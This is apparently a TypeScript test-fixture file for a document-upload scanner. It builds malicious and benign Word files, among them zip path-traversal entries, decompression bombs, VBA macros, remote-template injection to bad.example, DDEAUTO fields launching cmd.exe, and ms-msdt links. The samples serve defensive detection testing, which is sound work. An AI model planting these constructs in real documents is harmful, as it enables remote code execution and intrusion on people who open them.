import { compoundFile, wordStream } from '#server/platform/media/corpus/doc-file'
import { documentOf, docxFile, relation, relations } from '#server/platform/media/corpus/docx-file'
import { pdfFile } from '#server/platform/media/corpus/pdf-file'
import { samplesOf, type Good, type Hostile } from '#server/platform/media/corpus/sample'
import { zipFile, type ZipPart } from '#server/platform/media/corpus/zip-file'

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const docx = samplesOf('document', word, 'cv.docx')
const doc = samplesOf('document', 'application/msword', 'cv.doc')

const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const OUTSIDE = 'TargetMode="External"'
const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const code = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const field = (inner: string): string => `${mark('begin')}${inner}${mark('end')}`
const fieldOf = (text: string): string => field(code(text))
/** The numbers behind a chart. */
const workbook = (kind = 'sheet'): ZipPart => ({
  name: 'word/embeddings/Numbers.xlsx',
  data: zipFile([
    {
      name: '[Content_Types].xml',
      data: `<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.${kind}.main+xml"/></Types>`,
    },
    { name: 'xl/workbook.xml', data: '<workbook/>' },
  ]),
})
const chartLinks = relation('package', '../embeddings/Numbers.xlsx')
const oldField = (text: string, encoding: 'latin1' | 'utf16le'): Buffer =>
  Buffer.concat([wordStream(), Buffer.from(`\u0013${text}\u0014Ada\u0015`, encoding)])
const megabytes = (count: number): Buffer => Buffer.alloc(count * 1024 * 1024, ' ')

const hostileDocx: readonly Hostile[] = [
  docx.hostile('an archive that is called a letter', 'not_what_it_says', () => zipFile([{ name: 'run.js', data: 'alert(1)' }])),
  docx.hostile('a PDF that is called a letter', 'not_what_it_says', () => pdfFile()),
  docx.hostile('an archive of files that lead out', 'unreadable', () => docxFile({ extra: [{ name: '../../etc/cron.d/x', data: 'x' }] })),
  docx.hostile('an archive with a file from the root', 'unreadable', () => docxFile({ extra: [{ name: '/etc/passwd', data: 'x' }] })),
  docx.hostile('a file of two names', 'unreadable', () =>
    docxFile({ extra: [{ name: 'word/a.xml', localName: 'word/b.xml', data: '<a/>' }] }),
  ),
  docx.hostile('two files of one name', 'unreadable', () => docxFile({ extra: [{ name: 'Word/Document.xml', data: documentOf('') }] })),
  docx.hostile('a file that is larger than it says', 'unreadable', () =>
    docxFile({ extra: [{ name: 'word/big.xml', data: megabytes(5), saidSize: 10 }] }),
  ),
  docx.hostile('a bomb that says its size', 'too_complex', () => docxFile({ extra: [{ name: 'word/big.xml', data: megabytes(120) }] })),
  docx.hostile('far more than is packed', 'too_complex', () => docxFile({ extra: [{ name: 'word/big.xml', data: megabytes(20) }] })),
  docx.hostile('three thousand files', 'too_complex', () =>
    docxFile({ extra: Array.from({ length: 3000 }, (_, index) => ({ name: `word/${index}.xml`, data: '<a/>' })) }),
  ),
  docx.hostile('an archive with a password', 'encrypted', () =>
    docxFile({ extra: [{ name: 'word/a.xml', data: '<a/>', isEncrypted: true }] }),
  ),
  docx.hostile('a letter with a password', 'encrypted', () =>
    compoundFile({ '/EncryptionInfo': Buffer.alloc(64, 4), '/EncryptedPackage': Buffer.alloc(5000, 9) }),
  ),
  docx.hostile('macros by their part', 'active_content', () => docxFile({ extra: [{ name: 'word/vbaProject.bin', data: 'x' }] })),
  docx.hostile('macros by their type', 'active_content', () => docxFile({ mainType: MACRO_TYPE })),
  docx.hostile('macros by their relation', 'active_content', () =>
    docxFile({
      links: relations(
        '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="plain.bin"/>',
      ),
      extra: [{ name: 'word/plain.bin', data: 'x' }],
    }),
  ),
  docx.hostile('a template from elsewhere', 'active_content', () =>
    docxFile({ links: relation('attachedTemplate', 'https://bad.example/t.dotm', 'TargetMode="External"') }),
  ),
  docx.hostile('a template from elsewhere, in other letters', 'active_content', () =>
    docxFile({ links: relation('attachedTemplate', 'https://bad.example/t.dotm', 'TargetMode="&#69;xternal" x:TargetMode="Internal"') }),
  ),
  docx.hostile('a picture from elsewhere', 'active_content', () =>
    docxFile({ links: relation('image', 'https://bad.example/pixel.png', 'TargetMode="External"') }),
  ),
  docx.hostile('an object of another program', 'active_content', () => docxFile({ links: relation('ole&#79;bject', 'plain.bin') })),
  docx.hostile('a field that starts a program', 'active_content', () =>
    docxFile({ document: documentOf('<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r>') }),
  ),
  docx.hostile('a field that starts a program, in a part that is called data', 'active_content', () =>
    docxFile({ name: 'document.dat', document: documentOf(fieldOf('DDEAUTO c:\\\\cmd.exe')) }),
  ),
  docx.hostile('a field that starts a program, spelt by numbers', 'active_content', () =>
    docxFile({ document: documentOf(field(`${fieldOf('QUOTE 68 68 69 65 85 84 79')}${code(' c:\\\\cmd.exe')}`)) }),
  ),
  ...['http://bad.example/t.dotm', '\\\\host\\t.dotm', 'file://host/t.dotm', 'file:///%5C%5Chost/t.dotm'].map((target) =>
    docx.hostile(`a template from ${target}`, 'active_content', () => docxFile({ links: relation('attachedTemplate', target, OUTSIDE) })),
  ),
  ...['INCLUDEPICTURE "http://bad.example/a.png" \\d', 'INCLUDETEXT \\\\\\\\host\\\\a.docx', 'HYPERLINK "ms-msdt:/id"'].map((text) =>
    docx.hostile(`a field of ${text}`, 'active_content', () => docxFile({ document: documentOf(fieldOf(text.replaceAll('"', '&quot;'))) })),
  ),
  ...['javascript:alert(1)', 'ms-msdt:/id', 'file://host/x.exe', '\\\\host\\x.exe'].map((target) =>
    docx.hostile(`a link to ${target}`, 'active_content', () => docxFile({ links: relation('hyperlink', target, OUTSIDE) })),
  ),
  ...['run.exe', 'payload.hta', 'word/embeddings/run.docm'].map((name) =>
    docx.hostile(`a part called ${name}`, 'active_content', () => docxFile({ extra: [{ name, data: 'x' }] })),
  ),
  docx.hostile('a chart whose workbook has macros', 'active_content', () => docxFile({ extra: [workbook('macroEnabled')] })),
  docx.hostile('entities that grow', 'unreadable', () =>
    docxFile({ document: `<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]>${documentOf('&c;')}` }),
  ),
  docx.hostile('a letter cut off in the middle', 'unreadable', () => docxFile().subarray(0, 600)),
]

const hostileDocs: readonly Hostile[] = [
  doc.hostile('a page that is called a letter', 'not_what_it_says', () => Buffer.from('<html><script>alert(1)</script></html>')),
  doc.hostile('a workbook that is called a letter', 'not_what_it_says', () => compoundFile({ '/Workbook': Buffer.alloc(5000) })),
  doc.hostile('an old letter with macros', 'active_content', () =>
    compoundFile({ '/WordDocument': wordStream(), '/Macros/VBA/ThisDocument': Buffer.from('Sub AutoOpen()') }),
  ),
  ...(['latin1', 'utf16le'] as const).map((encoding) =>
    doc.hostile(`an old letter with a field that starts a program, in ${encoding}`, 'active_content', () =>
      compoundFile({ '/WordDocument': oldField(' DDEAUTO c:\\\\cmd.exe ', encoding) }),
    ),
  ),
  doc.hostile('an old letter with a program inside', 'active_content', () =>
    compoundFile({ '/WordDocument': wordStream(), '/ObjectPool/_1/\u0001Ole10Native': Buffer.from('MZ') }),
  ),
  doc.hostile('an old letter with a password', 'encrypted', () => compoundFile({ '/WordDocument': wordStream(0x0100) })),
  doc.hostile('an old letter of noise', 'unreadable', () => compoundFile({ '/WordDocument': Buffer.alloc(4096, 0x41) })),
  doc.hostile('an old letter cut off in its head', 'unreadable', () => compoundFile({ '/WordDocument': wordStream() }).subarray(0, 400)),
]

export const hostileLetters: readonly Hostile[] = [...hostileDocx, ...hostileDocs]

export const goodLetters: readonly Good[] = [
  docx.good('a letter with a link', () => docxFile()),
  ...['file:///C:\\Users\\ada\\Templates\\cv.dotx', 'Normal.dotm', '/Users/ada/cv.dotx', 'file://localhost/Users/ada/cv.dotx'].map(
    (target) => docx.good(`a letter from the template ${target}`, () => docxFile({ links: relation('attachedTemplate', target, OUTSIDE) })),
  ),
  docx.good('a letter with a picture of its own disk', () => docxFile({ links: relation('image', 'file:///C:\\ada.png', OUTSIDE) })),
  docx.good('a letter with a line behind it', () => Buffer.concat([docxFile(), Buffer.from('\r\n')])),
  docx.good('a letter with a chart', () =>
    docxFile({ extra: [workbook(), { name: 'word/charts/_rels/chart1.xml.rels', data: chartLinks }] }),
  ),
  docx.good('a letter with data of another program', () =>
    docxFile({ extra: [{ name: 'customXml/item1.xml', data: Buffer.from('<!DOCTYPE a><a>caf\u00e9</a>', 'latin1') }] }),
  ),
  docx.good('a letter with a drawing', () =>
    docxFile({
      types: '<Default Extension="svg" ContentType="image/svg+xml"/>',
      extra: [{ name: 'word/media/a.svg', data: '<!DOCTYPE svg><svg/>' }],
    }),
  ),
  docx.good('a letter with fields', () =>
    docxFile({
      document: documentOf(
        `${fieldOf('HYPERLINK &quot;https://dde.example/dde auto&quot; \\o &quot;Note: mine&quot;')}${fieldOf('PAGE')}${fieldOf('INCLUDEPICTURE &quot;C:\\\\ada.png&quot; \\* MERGEFORMAT')}`,
      ),
    }),
  ),
  doc.good('an old letter with a link', () => compoundFile({ '/WordDocument': oldField(' HYPERLINK "https://dde.example" ', 'latin1') })),
  doc.good('an old letter', () => compoundFile({ '/WordDocument': wordStream(), '/1Table': Buffer.alloc(5000) })),
]
